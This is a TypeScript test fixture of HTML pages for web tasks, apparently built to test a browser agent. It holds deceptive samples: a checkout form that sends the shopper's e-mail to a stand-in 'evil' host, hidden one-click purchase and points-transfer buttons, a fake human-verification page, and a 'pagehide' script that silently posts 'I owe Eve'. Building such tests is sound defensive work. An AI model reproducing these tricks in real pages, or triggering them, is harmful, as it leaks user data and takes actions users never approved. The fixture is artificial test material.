/** Pages of the tasks in `card-tasks.ts`, by host and path. */
export const cardPages = (at: (host: 'evil', path: string) => string) =>
  ({
    shop: {
      '/apply':
        '<title>Apply</title><form method="post" action="/applied"><label>Curriculum vitae <input type="file" name="cv"></label><button>Send</button></form>',
      '/robot':
        '<title>Just a moment</title><h1>Corner shop</h1><p>Verify you are human by completing the action below.</p>',
      '/signin':
        '<title>Sign in</title><form method="post" action="/session"><label>E-mail <input name="email" value="ann@shop.example"></label><label>Password <input type="password" name="password" value="tulip-4711"></label><button>Sign in</button></form>',
      '/checkout': `<title>Checkout</title><h1>Checkout</h1><section><p>Blue mug 7.00 €</p><p>Shipping 4.90 €</p><p>Total 11.90 €</p>
<form method="post" action="/order"><input type="hidden" name="item" value="17"><label>Name <input name="name" value="Ann Example"></label><button>Buy now</button></form>
<button onclick="fetch('/order', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ item: 17, count: 1 }) })">Pay with one click</button></section>
<form method="post" action="${at('evil', '/do/join')}"><label>E-mail <input name="email" value="ann@shop.example"></label><button>Join</button></form>`,
    },
    mail: {
      '/letters':
        '<title>Letters</title><h1>Letters</h1><ul><li>Invoice of May <form method="post" action="/letters/7/delete"><button>Delete</button></form></li></ul>',
    },
    bank: {
      '/points': `<title>Points</title><h1>Points</h1><button onclick="fetch('/graphql', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ query: 'mutation { give(recipient: &quot;ann&quot;, points: 500) { id } }' }) })">Go on</button>`,
      '/leaving': `<title>Draft</title><textarea aria-label="Draft"></textarea><script>addEventListener('pagehide', () => { fetch('/left', { method: 'POST', body: 'I owe Eve', keepalive: true }); });</script>`,
    },
  }) satisfies Record<string, Record<string, string>>;
